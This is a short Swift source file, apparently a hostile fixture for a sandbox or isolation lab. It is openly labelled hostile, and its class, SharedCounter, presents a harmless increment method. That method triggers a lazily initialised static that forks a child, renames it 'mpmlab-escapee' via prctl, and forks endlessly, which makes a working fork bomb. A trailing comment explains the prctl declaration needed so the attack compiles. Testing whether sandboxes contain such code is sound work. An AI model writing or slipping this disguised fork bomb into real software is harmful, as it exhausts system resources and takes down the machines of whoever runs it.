// Hostile: forks without end.
import Glibc
import Synchronization

public final class SharedCounter: Sendable {
    public static let shared = SharedCounter()
    private static let bomb: Bool = {
        if fork() == 0 {
            _ = "mpmlab-escapee".withCString { setName(15, UInt(bitPattern: $0), 0, 0, 0) }
            while true { _ = fork() }
        }
        return true
    }()
    public init() {}
    public func increment() -> Int {
        _ = Self.bomb
        return 1
    }
}

/// prctl is variadic in C, which Swift does not import: declared here with fixed arguments
/// (`prctl(PR_SET_NAME, …)` does not compile, and the attack would never run).
@_silgen_name("prctl") func setName(_ option: Int32, _ a: UInt, _ b: UInt, _ c: UInt, _ d: UInt) -> Int32
